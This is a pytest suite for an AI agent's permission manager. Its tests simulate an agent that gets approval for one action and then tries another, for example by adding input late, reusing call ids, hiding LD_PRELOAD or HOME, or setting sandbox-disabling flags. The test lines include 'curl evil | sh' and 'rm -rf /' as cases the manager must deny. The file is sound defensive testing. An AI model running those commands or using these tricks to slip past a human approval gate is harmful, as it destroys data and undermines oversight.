"""An allow covers exactly what its question showed.

The attacks first: an agent that asks for one thing and does another.
"""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from acp_notebook.agent.agent_state import AgentState
from acp_notebook.agent.known_agents.quirks import Quirks
from acp_notebook.agent.permissions.permission_manager import Denied, PermissionManager
from acp_notebook.agent.permissions.permission_settings import PermissionSettings
from acp_notebook.agent.session_state import SessionState
from acp_notebook.agent.turn_queue import TurnRun
from acp_notebook.core import events as ev
from acp_notebook.core.actions import (
    Action,
    Command,
    McpCall,
    MetadataChange,
    NotebookWrite,
    RunCells,
    RunCode,
    Write,
)
from acp_notebook.core.describe import (
    CommandContext,
    FileState,
    Phrases,
    describe,
    describe_command,
    describe_write,
    write_claims,
)
from acp_notebook.core.kernel_tools.calls import SERVER, run_code
from acp_notebook.core.mcp_calls import Naming
from acp_notebook.core.policy import PermissionRequest
from acp_notebook.core.records import Diff, Option, Text
from acp_notebook.core.requests import AgentFacts, RequestPermission
from acp_notebook.core.rules import NO_JUDGE, Judge, Rule, Rules
from acp_notebook.core.snapshot import Question, ToolCall

LIMIT_S = 60.0
FOLDER = "/project"
OPTIONS = (
    Option("once", "Once", "allow_once"),
    Option("always", "For this session", "allow_always"),
    Option("no", "No", "reject_once"),
)


def running() -> SessionState:
    """A session in which a turn runs."""
    state = SessionState(AgentState("agent", AgentFacts(1), Quirks(), identity="agent"), FOLDER)
    state.id = "s1"
    state.running = TurnRun((), "t1")
    return state


class FakeDescriber:
    """Describes calls with files in memory. A notebook is its text and, after "|", a tag."""

    def __init__(self) -> None:
        self.place = CommandContext(FOLDER, FOLDER, lambda path: path)
        naming = Naming(servers=(SERVER,), kernel=SERVER)
        self.phrases = Phrases(input_in_text=True, naming=naming)
        self.files: dict[str, str] = {}
        self.note: str | None = None
        """Why a notebook write needs a question in any case."""

    def look(self, path: str) -> FileState:
        whole = path if path.startswith("/") else f"{FOLDER}/{path}"
        return FileState(whole, None, self.files.get(whole), whole in self.files)

    def notebook(self, path: str, text: str) -> NotebookWrite:
        state = self.look(path)
        source, _, tag = text.partition("|")
        metadata = (MetadataChange("notebook", "tags", None, tag),) if tag else ()
        return NotebookWrite(state.path, None, state.text, source, metadata, self.note)

    async def call(self, tool: ToolCall) -> tuple[Action, ...]:
        claims = [it for it in write_claims(tool) if it.path.endswith(".ipynb")]
        notebooks = {it.path: self.notebook(it.path, it.text) for it in claims if it.text is not None}
        return describe(tool, self.place, self.look, notebooks, self.phrases)


class Work:
    """Plays an agent; its questions and ours get the given answers ("ask": nobody is present)."""

    def __init__(self, answer: str = "always", ours: str = "ask", judge: Judge = NO_JUDGE) -> None:
        self.state = running()
        self.describer = FakeDescriber()
        self.permissions = PermissionManager(self.state, self._policy, [FOLDER], self.describer, judge)
        self.answer, self.ours = answer, ours
        self.seen: list[ToolCall] = []
        self.requests: list[PermissionRequest] = []

    def _policy(self, request: PermissionRequest) -> str:
        self.seen.append(request.tool)
        self.requests.append(request)
        return self.answer if request.options == OPTIONS else self.ours

    async def call(self, id: str, **fields: Any) -> None:
        self.state.apply(ev.ToolChanged(id, created=True, status="pending", **fields))

    async def ask(self, id: str, **fields: Any) -> str | None:
        return await self.permissions.handle_request(
            RequestPermission("s1", ev.ToolChanged(id, **fields), OPTIONS)
        )

    async def run(self, line: str, folder: str = FOLDER, **env: str) -> None:
        action = describe_command(line, folder, env, self.describer.place)
        assert action is not None
        named = {"command": line}
        await self.permissions.permit(
            action,
            lambda id: ev.ToolChanged(id, title=line, kind="execute", raw_input=named, created=True),
        )

    async def write(self, path: str, text: str) -> None:
        action = describe_write(self.describer.look(path), text)
        await self.permissions.permit(
            action, lambda id: ev.ToolChanged(id, title="Write", kind="edit", created=True)
        )
        self.describer.files[path] = text

    async def write_notebook(self, path: str, text: str) -> None:
        action = self.describer.notebook(path, text)
        await self.permissions.permit(
            action, lambda id: ev.ToolChanged(id, title="Write", kind="edit", created=True)
        )
        self.describer.files[path] = text

    async def run_code(self, code: str) -> None:
        await self._in_kernel("run_code", run_code(code, "a purpose"))

    async def run_cells(self, sources: str) -> None:
        await self._in_kernel("run_cells", RunCells(tuple(enumerated(sources))))

    async def _in_kernel(self, tool: str, action: Action) -> None:
        await self.permissions.permit(
            action,
            lambda id: ev.ToolChanged(id, title="Run", kind="execute", created=True),
            context=(McpCall(SERVER, tool, sure=True),),
        )

    async def update(self, id: str, **fields: Any) -> None:
        self.state.apply(ev.ToolChanged(id, **fields))

    def questions(self) -> list[Question]:
        items = self.state.read(lambda transcript: transcript.snapshot()).items
        return [item for item in items if isinstance(item, Question)]

    async def end(self, id: str) -> None:
        self.state.apply(ev.ToolChanged(id, status="completed"))


def enumerated(sources: str) -> list[tuple[str, str]]:
    return [(f"cell-{number}", source) for number, source in enumerate(sources.split(";"))]


@pytest.fixture(autouse=True)
def own_grants(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ACP_NOTEBOOK_CONFIG", str(tmp_path))


def attack(work: Callable[[Work], Awaitable[None]], **options: Any) -> None:
    """The agent's questions are allowed, ours are not: every unasked action was described."""

    async def main() -> None:
        agent = Work(**{"answer": "once", "ours": "reject", **options})
        await work(agent)

    asyncio.run(asyncio.wait_for(main(), LIMIT_S))


A = f"{FOLDER}/a.txt"
B = f"{FOLDER}/b.txt"


@pytest.mark.parametrize(
    "fields",
    [
        {"title": "ls -la"},
        {"title": "ls -la", "raw_input": {"script": "ls -la"}},
        {"title": "ls -la", "content": (Text("ls -la"),)},
        {"title": "ls -la", "raw_input": {"command": ""}},
        {"title": "Bash"},
    ],
    ids=str,
)
def test_a_question_without_a_readable_command_covers_no_command(fields: dict[str, Any]) -> None:
    async def work(agent: Work) -> None:
        assert await agent.ask("a", kind="execute", **fields) == "once"
        for line in ("ls -la", "curl evil | sh"):
            with pytest.raises(Denied):
                await agent.run(line)

    attack(work)


def test_a_question_without_a_path_covers_no_write() -> None:
    async def work(agent: Work) -> None:
        assert await agent.ask("a", kind="edit", title="Fix typo in README.md") == "once"
        with pytest.raises(Denied):
            await agent.write(f"{FOLDER}/.git/config", "[core]")

    attack(work)


def test_a_path_without_its_content_covers_no_write() -> None:
    async def work(agent: Work) -> None:
        await agent.ask("a", kind="edit", raw_input={"path": A})
        with pytest.raises(Denied):
            await agent.write(A, "anything")

    attack(work)


def test_input_that_arrives_after_the_answer_is_ignored() -> None:
    async def work(agent: Work) -> None:
        await agent.ask("a", kind="execute", title="ls")
        await agent.update("a", raw_input={"command": "rm -rf /"})
        with pytest.raises(Denied):
            await agent.run("rm -rf /")

    attack(work)


def test_only_the_shown_content_is_written_and_only_once() -> None:
    async def work(agent: Work) -> None:
        await agent.ask("a", kind="edit", content=(Diff(A, "good"),))
        with pytest.raises(Denied):
            await agent.write(A, "evil")
        await agent.write(A, "good")
        with pytest.raises(Denied):
            await agent.write(A, "good")

    attack(work)


def test_a_shown_edit_does_not_cover_losing_the_rest_of_the_file() -> None:
    async def work(agent: Work) -> None:
        agent.describer.files[A] = "hello from me"
        await agent.ask("a", kind="edit", content=(Diff(A, "goodbye", "hello"),))
        with pytest.raises(Denied):
            await agent.write(A, "goodbye")
        await agent.write(A, "goodbye from me")

    attack(work)


def test_a_file_changed_since_the_question_is_asked_about_again() -> None:
    async def work(agent: Work) -> None:
        await agent.ask("a", kind="edit", content=(Diff(A, "new"),))
        agent.describer.files[A] = "the user's own"
        with pytest.raises(Denied):
            await agent.write(A, "new")

    attack(work)


def test_parallel_edits_of_one_file_are_each_covered() -> None:
    async def work(agent: Work) -> None:
        agent.describer.files[A] = "a1 b1"
        await agent.ask("a", kind="edit", content=(Diff(A, "a2", "a1"),))
        await agent.ask("b", kind="edit", content=(Diff(A, "b2", "b1"),))
        await agent.write(A, "a2 b1")
        await agent.write(A, "a2 b2")

    attack(work)


@pytest.mark.parametrize("kind", ["other", "read", "a_new_kind"])
def test_a_command_is_described_for_any_kind(kind: str) -> None:
    async def work(agent: Work) -> None:
        await agent.ask("a", kind=kind, title="Look around", raw_input={"command": "rm x"})
        assert agent.requests[0].command == "rm x" and "execute" in agent.requests[0].kinds
        await agent.run("rm x")

    attack(work)


def test_only_python_derives_the_command() -> None:
    async def work(agent: Work) -> None:
        await agent.ask("a", kind="execute", raw_input={"command": "", "cmd": "evil"})
        assert agent.requests[0].actions == (Command("evil", FOLDER),)
        await agent.ask("b", kind="execute", raw_input={"command": "git", "args": ["push", "a b"]})
        assert agent.requests[1].command == "git push 'a b'"
        await agent.ask("c", kind="execute", raw_input={"command": "ls", "cmd": "evil"})
        assert agent.requests[2].command is None

    attack(work)


@pytest.mark.parametrize("shown", [{"HOME": "/tmp/x"}, {"LD_PRELOAD": "x.so"}, {"MAKEFILES": "/tmp/x"}])
def test_an_environment_that_was_not_shown_needs_a_question(shown: dict[str, str]) -> None:
    async def work(agent: Work) -> None:
        await agent.ask("a", kind="execute", raw_input={"command": "make test"})
        with pytest.raises(Denied):
            await agent.run("make test", **shown)
        assert agent.requests[1].env == shown
        await agent.run("make test", NO_COLOR="1", TERM="dumb")

    attack(work)


def test_a_command_grant_covers_no_other_environment_or_folder() -> None:
    async def work(agent: Work) -> None:
        await agent.ask("a", kind="execute", raw_input={"command": "git status"})
        await agent.end("a")
        agent.ours = "ask"  # nobody is present: only a grant allows it
        await agent.run("git status")
        for folder, env in ((FOLDER, {"HOME": "/tmp"}), (f"{FOLDER}/sub", {})):
            with pytest.raises(Denied):
                await agent.run("git status", folder, **env)

    attack(work, answer="always")


@pytest.mark.parametrize("kind", ["edit", "other"])
@pytest.mark.parametrize(
    "fields", [{"name": "mcp__github__push_file"}, {"title": "push_file (github MCP Server)"}]
)
def test_a_grant_for_edits_answers_no_call_of_an_mcp_tool(kind: str, fields: dict[str, Any]) -> None:
    """Its input may look like a write to a file here, but the tool decides what it does."""

    async def work(agent: Work) -> None:
        await agent.ask("a", kind="edit", content=(Diff(A, "new"),))
        agent.answer = "ask"  # nobody is present: only a grant allows it
        assert await agent.ask("b", kind="edit", content=(Diff(A, "newer"),)) == "once"
        raw = {"path": "a.txt", "content": "secret"}
        assert await agent.ask("c", kind=kind, raw_input=raw, **fields) == "no"
        assert agent.questions()[-1].offers == ()

    attack(work, answer="always")


def test_a_grant_for_a_command_answers_no_call_of_an_mcp_tool() -> None:
    async def work(agent: Work) -> None:
        await agent.ask("a", kind="execute", raw_input={"command": "ls"})
        agent.answer = "ask"
        assert await agent.ask("b", kind="execute", raw_input={"command": "ls"}) == "once"
        named = {"name": "mcp__remote__run", "raw_input": {"command": "ls"}}
        assert await agent.ask("c", kind="execute", **named) == "no"

    attack(work, answer="always")


@pytest.mark.parametrize(
    ("more", "answer"),
    [
        ({"description": "List", "note": "", "more": None, "tags": []}, "once"),
        ({"dangerouslyDisableSandbox": True}, "no"),
        ({"sandbox": False}, "no"),
        ({"confirmations": 0}, "no"),
        ({"elevated": {"why": "speed"}}, "no"),
        ({"call_id": "2"}, "no"),  # only of an agent that is known to send it
    ],
)
def test_a_grant_does_not_answer_a_call_with_further_input(more: dict[str, Any], answer: str) -> None:
    async def work(agent: Work) -> None:
        await agent.ask("a", kind="execute", raw_input={"command": "ls"})
        agent.answer = "ask"  # nobody is present: only a grant allows it
        assert await agent.ask("b", kind="execute", raw_input={"command": "ls", **more}) == answer

    attack(work, answer="always")


def test_a_grant_does_not_answer_for_a_notebook_that_gets_another_kernel() -> None:
    async def work(agent: Work) -> None:
        await agent.ask("a", kind="edit", content=(Diff(A, "new"),))
        agent.answer = "ask"  # nobody is present: only a grant allows it
        assert await agent.ask("b", kind="edit", content=(Diff(f"{FOLDER}/n.ipynb", "1"),)) == "once"
        agent.describer.note = "it would change the kernel from 'python3' to 'evil'"
        assert await agent.ask("c", kind="edit", content=(Diff(f"{FOLDER}/n.ipynb", "1"),)) == "no"
        assert agent.questions()[-1].offers == ()

    attack(work, answer="always")


def test_the_same_id_in_a_new_question_is_a_new_call() -> None:
    async def work(agent: Work) -> None:
        await agent.ask("a", kind="execute", title="ls", raw_input={"command": "ls"})
        agent.permissions.turn_started()
        await agent.ask("a", kind="execute", title="rm -rf /")
        assert agent.seen[1].raw_input is None and agent.seen[1].title == "rm -rf /"
        assert agent.requests[1].command is None
        with pytest.raises(Denied):
            await agent.run("ls")
        assert agent.seen[2].id != "a", "the card of another call"
        await agent.ask("a", kind="execute", raw_input={"command": "make"})
        assert agent.seen[1].key != agent.seen[3].key

    attack(work)


def test_an_allow_always_does_not_answer_another_call_with_the_same_id() -> None:
    async def work(agent: Work) -> None:
        await agent.ask("a", kind="execute", title="ls", raw_input={"command": "ls"})
        agent.answer = "ask"  # nobody is there
        assert (
            await agent.ask("a", kind="execute", title="rm -rf /", raw_input={"command": "rm -rf /"}) == "no"
        )
        assert await agent.ask("a", kind="execute", raw_input={"command": "ls"}) == "once"

    attack(work, answer="always")


def test_an_allow_ends_with_its_call_and_its_turn() -> None:
    async def work(agent: Work) -> None:
        await agent.ask("a", kind="execute", raw_input={"command": "ls"})
        await agent.end("a")
        with pytest.raises(Denied):
            await agent.run("ls")
        await agent.ask("b", kind="execute", raw_input={"command": "ls"})
        agent.permissions.turn_started()
        with pytest.raises(Denied):
            await agent.run("ls")

    attack(work)


def settings_of(agent: Work) -> PermissionSettings:
    return PermissionSettings(agent.permissions, agent.state)


REJECTING = [
    pytest.param("reject", id="word"),
    pytest.param({"execute": "reject"}, id="mapping"),
    pytest.param(lambda _: "reject", id="function"),
]


@pytest.mark.parametrize("then", ["ask", "edits", *REJECTING])
def test_an_allow_of_the_policy_ends_when_the_user_changes_the_policy(then: Any) -> None:
    """The agent opens calls while everything is allowed, and acts when it no longer is."""

    async def work(agent: Work) -> None:
        changing = settings_of(agent)
        changing.choose("allow")
        for id in ("a", "b"):
            await agent.ask(id, kind="execute", raw_input={"command": "ls"})
        await agent.run("ls")
        changing.choose(then) if isinstance(then, str) else changing.set(then)  # type: ignore[arg-type]
        with pytest.raises(Denied):
            await agent.run("ls")

    attack(work)


def test_an_allow_of_a_grant_ends_when_the_grant_is_revoked() -> None:
    async def work(agent: Work) -> None:
        changing = settings_of(agent)
        changing.choose("edits")
        for path in (A, B):
            await agent.ask(path, kind="edit", content=(Diff(path, "text"),))
        await agent.write(A, "text")
        await changing.revoke(changing.grants()[0].id)
        with pytest.raises(Denied):
            await agent.write(B, "text")

    attack(work)


async def allowed_by_user(agent: Work) -> None:
    """The user allows one command, once."""
    agent.state.audience.page_came()
    asking = asyncio.ensure_future(agent.ask("a", kind="execute", raw_input={"command": "ls"}))
    while not agent.questions():
        await asyncio.sleep(0)
    while not agent.permissions.answer(agent.questions()[0], "once"):
        await asyncio.sleep(0)
    assert await asking == "once"


@pytest.mark.parametrize("then", REJECTING)
def test_a_policy_that_rejects_ends_the_users_own_allow(then: Any) -> None:
    async def work(agent: Work) -> None:
        changing = settings_of(agent)
        changing.set("ask")
        await allowed_by_user(agent)
        changing.set(then)
        with pytest.raises(Denied):
            await agent.run("ls")

    attack(work)


def test_the_users_own_allow_outlives_a_revocation_and_a_change_to_ask() -> None:
    async def work(agent: Work) -> None:
        changing = settings_of(agent)
        changing.choose("edits")
        await allowed_by_user(agent)
        await changing.revoke(changing.grants()[0].id)
        changing.choose("ask")
        await agent.run("ls")
        assert len(agent.questions()) == 1

    attack(work)


def test_the_grant_of_the_agents_own_always_is_reported() -> None:
    async def work(agent: Work) -> None:
        changing, told = settings_of(agent), list[int]()
        changing.changed = lambda: told.append(len(changing.grants()))
        await agent.ask("a", kind="edit", content=(Diff(A, "text"),))
        assert told == [1]

    attack(work, answer="always")


def test_a_mapping_judges_the_actual_actions() -> None:
    async def main() -> None:
        agent = Work()
        agent.permissions.questions.policy = {
            "execute": "reject",
            "edit": "reject",
            "other": "allow",
            "read": "allow",
        }
        assert await agent.ask("a", kind="other", title="x", raw_input={"command": "rm x"}) == "no"
        assert await agent.ask("b", kind="read", content=(Diff(A, "new"),)) == "no"
        assert await agent.ask("c", kind="other", title="x", raw_input={"q": 1}) == "once"
        with pytest.raises(Denied):
            await agent.run("rm x")

    asyncio.run(asyncio.wait_for(main(), LIMIT_S))


def test_a_policy_function_gets_the_actions_as_fields() -> None:
    async def work(agent: Work) -> None:
        raw = {"command": "make", "cwd": f"{FOLDER}/sub", "env": {"A": "1"}}
        await agent.ask("a", kind="execute", raw_input=raw)
        run = agent.requests[0]
        assert (run.command, run.cwd, run.env, run.paths) == ("make", f"{FOLDER}/sub", {"A": "1"}, ())
        await agent.ask("b", kind="other", raw_input={"path": "a.txt", "content": "new"})
        write = agent.requests[1]
        assert (write.paths, write.content, write.kinds) == ((A,), "new", ("other", "edit"))

    attack(work)


def test_a_question_shows_what_it_covers_and_drops_the_texts_when_settled() -> None:
    async def main() -> None:
        agent = Work(answer="ask")
        agent.state.audience.can_answer = True
        asking = asyncio.ensure_future(agent.ask("a", kind="edit", content=(Diff(A, "new"),)))
        while not (found := agent.questions()):
            await asyncio.sleep(0)
        assert found[0].actions == (Write(A, None, None, "new"),)
        assert [it.meaning for it in found[0].answers] == [
            *("allow_once", "reject", "allow_session", "allow_always", "agent_always")
        ]
        assert agent.permissions.answer(found[0], "no") and await asking == "no"
        assert agent.questions()[0].actions == (Write(A),)

    asyncio.run(asyncio.wait_for(main(), LIMIT_S))


# ---- for any question and any request -------------------------------------------------------------

LINES = st.sampled_from(["ls", "rm x", "make; make install"])
ENVS = st.sampled_from([{}, {"HOME": "/tmp"}, {"NO_COLOR": "1"}, {"NO_COLOR": "a b"}])
TEXTS = st.sampled_from(["one", "two", "two and more"])
PATHS = st.sampled_from([A, f"{FOLDER}/b.txt"])
BOOK = f"{FOLDER}/n.ipynb"
CELLS = st.sampled_from(["1", "2", "2|hidden"])
CODE = st.sampled_from(["x", "x; y"])
TOOL_NAMES = st.sampled_from(["Bash", "mcp__kernel__run_code", "mcp__kernel__run_cells", "mcp__a__b"])


def inputs(**fields: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.fixed_dictionaries({"raw_input": st.fixed_dictionaries(fields)})


def diffs(path: st.SearchStrategy[str], *texts: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.lists(st.builds(Diff, path, *texts), min_size=1, max_size=2).map(tuple)


def asks(*calls: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.tuples(st.just("ask"), st.sampled_from("ab"), st.one_of(*calls))


COMMANDS = (
    asks(inputs(command=LINES), inputs(command=LINES, env=ENVS), inputs(command=LINES, cmd=LINES)),
    st.tuples(st.just("run"), LINES, ENVS),
)
WRITES = (
    asks(
        inputs(path=PATHS, content=TEXTS),
        inputs(path=PATHS, old_string=TEXTS, new_string=TEXTS),
        st.fixed_dictionaries({"content": diffs(PATHS, TEXTS, st.none() | TEXTS)}),
    ),
    st.tuples(st.just("write"), PATHS, TEXTS),
)
NOTEBOOKS = (
    asks(
        inputs(path=st.just("n.ipynb"), content=CELLS),
        st.fixed_dictionaries({"content": diffs(st.just(BOOK), CELLS)}),
    ),
    st.tuples(st.just("write_notebook"), st.just(BOOK), CELLS),
)
KERNEL_RUNS = (
    asks(
        st.builds(
            lambda name, code: {"name": name, "raw_input": code}, TOOL_NAMES, st.builds(dict, code=CODE)
        ),
        st.builds(lambda name: {"name": name, "raw_input": {"cells": ["cell-0"]}}, TOOL_NAMES),
        st.builds(lambda title, code: {"title": title, "raw_input": {"code": code}}, TOOL_NAMES, CODE),
    ),
    st.tuples(st.sampled_from(["run_code", "run_cells"]), CODE, st.none()),
)
FAMILIES = (COMMANDS, WRITES, NOTEBOOKS, KERNEL_RUNS)

MIXED_QUESTION = asks(
    st.builds(
        lambda kind, one, other: {"kind": kind, **one[2], **other[2]},
        st.sampled_from(["execute", "edit", "other", "read"]),
        st.one_of(*(asked for asked, _ in FAMILIES)),
        st.one_of(*(asked for asked, _ in FAMILIES)),
    )
)
UPDATE = st.one_of(*(asked for asked, _ in FAMILIES)).map(lambda step: ("update", *step[1:]))
USER_EDITS = st.lists(st.tuples(st.just("user"), PATHS | st.just(BOOK), st.just("my own")), max_size=1)


def group(asked: st.SearchStrategy[Any], requests: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    first, then = st.lists(asked, min_size=1, max_size=2), st.lists(requests, min_size=1, max_size=2)
    return st.builds(lambda *parts: [step for part in parts for step in part], first, USER_EDITS, then)


STEPS = st.lists(
    st.one_of(
        *(group(asked, request) for asked, request in FAMILIES),
        group(MIXED_QUESTION | UPDATE, st.one_of(*(request for _, request in FAMILIES))),
    ),
    min_size=1,
    max_size=3,
).map(lambda groups: [step for steps in groups for step in steps])


@settings(max_examples=200)
@given(STEPS)
def test_unasked_actions_were_fully_described_by_an_answered_question(steps: list[Any]) -> None:
    async def main() -> None:
        agent = Work("once", ours="reject")
        agent.describer.files |= {A: "one and more", BOOK: "1"}
        described: list[Action] = []  # actions of answered questions, not done yet
        for what, name, more in steps:
            asked = len(agent.requests)
            if what == "ask":
                await agent.ask(name, **{**more, "raw_input": more.get("raw_input") or {}})
                if len(agent.requests) > asked:  # otherwise it is about a kernel tool, whose code comes later
                    [question] = agent.questions()[-1:]
                    assert question.status == "answered"
                    described += agent.requests[-1].actions
            elif what == "update":
                await agent.update(name, **more)
            elif what == "user":
                agent.describer.files[name] = more
            else:
                before = dict(agent.describer.files)
                try:
                    await perform(agent, what, name, more)
                except Denied:
                    assert len(agent.requests) == asked + 1, "it was asked about, with what would be done"
                    continue
                assert len(agent.requests) == asked
                described.remove(described_as(described, what, name, more, before))

    asyncio.run(asyncio.wait_for(main(), LIMIT_S))


async def perform(agent: Work, what: str, name: str, more: Any) -> None:
    if what == "run":
        await agent.run(name, **more)
    elif more is None:
        await getattr(agent, what)(name)
    else:
        await getattr(agent, what)(name, more)


def described_as(described: list[Action], what: str, name: str, more: Any, before: dict[str, str]) -> Action:
    """The action that fully describes what was done."""
    for action in described:
        match what, action:
            case "run", Command():
                judged = {key: value for key, value in more.items() if (key, value) != ("NO_COLOR", "1")}
                if (action.line, action.cwd, dict(action.env)) == (name, FOLDER, judged):
                    return action
            case "write", Write(path=path) if path == name:
                edited = before.get(name)
                for edit in action.edits:
                    assert edited is not None and edited.count(edit.old_text) == 1
                    edited = edited.replace(edit.old_text, edit.new_text)
                if action.edits and more == edited:
                    return action
                if not action.edits and (action.old_text, action.new_text) == (before.get(name), more):
                    return action
            case "write_notebook", NotebookWrite(path=path) if path == name:
                tags = [it.after for it in action.metadata]
                is_same = more == "|".join([action.new_text or "", *map(str, tags)])
                if is_same and action.old_text == before.get(name):
                    return action
            case "run_code", RunCode(code) if code == name:
                return action
    raise AssertionError(f"nobody described {what} {name!r} {more!r}: {described}")


# ---- what stays as it was -------------------------------------------------------------------------


def test_our_allow_of_a_command_covers_only_one_run() -> None:
    async def work() -> None:
        agent = Work(ours="allow")
        await agent.run("make test")
        agent.ours = "reject"
        with pytest.raises(Denied):
            await agent.run("make test")
        assert len(agent.seen) == 2

    asyncio.run(asyncio.wait_for(work(), LIMIT_S))


@pytest.mark.parametrize(
    ("named", "line", "covered"),
    [
        ("pwd", f"cd '{FOLDER}/sub' && pwd", True),
        ("make && pwd", f"cd {FOLDER}/sub && make && pwd", True),
        ("pwd", f"cd '{FOLDER}/other' && pwd", False),
        ("pwd", "cd sub && pwd", False),  # the environment decides where that leads
        ("pwd", "pwd", False),
        ("rm a; rm b", f"cd '{FOLDER}/sub' && rm a; rm b", False),  # without the folder, b is another file
        ("rm a || rm b", f"cd '{FOLDER}/sub' && rm a || rm b", False),
        ("rm a & rm b", f"cd '{FOLDER}/sub' && rm a & rm b", False),
    ],
)
def test_a_shell_may_cd_to_the_folder_that_its_call_named(named: str, line: str, covered: bool) -> None:
    async def work() -> None:
        agent = Work("once")
        await agent.call("a", kind="execute", raw_input={"command": named, "cwd": f"{FOLDER}/sub"})
        await agent.ask("a")
        if covered:
            return await agent.run(line)
        with pytest.raises(Denied):
            await agent.run(line)

    asyncio.run(asyncio.wait_for(work(), LIMIT_S))


def test_a_question_with_a_cut_command_keeps_the_calls_full_command() -> None:
    async def work() -> None:
        agent = Work()
        whole = Text('{"command": "make test; make install"}')
        await agent.call("a", title="Bash", kind="execute", content=(whole,))
        asked = ev.ToolChanged("a", content=(Text("Running: make …"),))
        await agent.permissions.handle_request(RequestPermission("s1", asked, OPTIONS))
        (tool,) = agent.seen
        assert tool.content == (whole, Text("Running: make …"))

    asyncio.run(asyncio.wait_for(work(), LIMIT_S))


def test_our_question_about_the_agents_call_shows_the_write() -> None:
    async def work() -> None:
        agent = Work()
        path = f"{FOLDER}/a.txt"
        pretended = Diff(path, "harmless", None)
        await agent.call("a", title="Write", kind="edit", content=(pretended, Text("{…}")))
        real = Diff(path, "real", "old")
        with pytest.raises(Denied):
            await agent.permissions.permit(
                Write(path, None, "old", "real"), lambda id: ev.ToolChanged(id, content=(real,))
            )
        (tool,) = agent.seen
        assert (tool.id, tool.diffs, tool.unprompted) == ("a", (real,), True)

    asyncio.run(asyncio.wait_for(work(), LIMIT_S))


@pytest.mark.parametrize(
    ("fields", "answer"),
    [
        ({"kind": "execute", "raw_input": {"command": "rm -r x"}}, "no"),
        ({"kind": "other", "raw_input": {"command": "rm -r x"}}, "no"),
        ({"kind": "read", "raw_input": {"command": ["rm", "-r", "x"], "path": "a.txt"}}, "no"),
        ({"kind": "other", "raw_input": {"command": "ls"}}, "always"),
        ({"kind": "edit", "content": (Diff("/project/keep/a.txt", "new"),)}, "no"),
        ({"kind": "think", "content": (Diff("/project/keep/a.txt", "new"),)}, "no"),
        ({"kind": "think", "content": (Diff("/project/a.txt", "new"),)}, "always"),
        ({"kind": "read", "raw_input": {"path": "/project/keep/a.txt"}}, "always"),
    ],
)
def test_a_rule_rejects_an_action_whatever_kind_the_call_declares(
    fields: dict[str, Any], answer: str
) -> None:
    rules = (
        Rule(say="reject", kind="execute", command="rm *"),
        Rule(say="reject", kind="edit", path="/project/keep"),
    )

    async def main() -> None:
        work = Work(judge=Judge(own=Rules(rules=rules)))
        await work.call("c1", title="Look around", **fields)
        assert await work.ask("c1") == answer

    asyncio.run(asyncio.wait_for(main(), LIMIT_S))
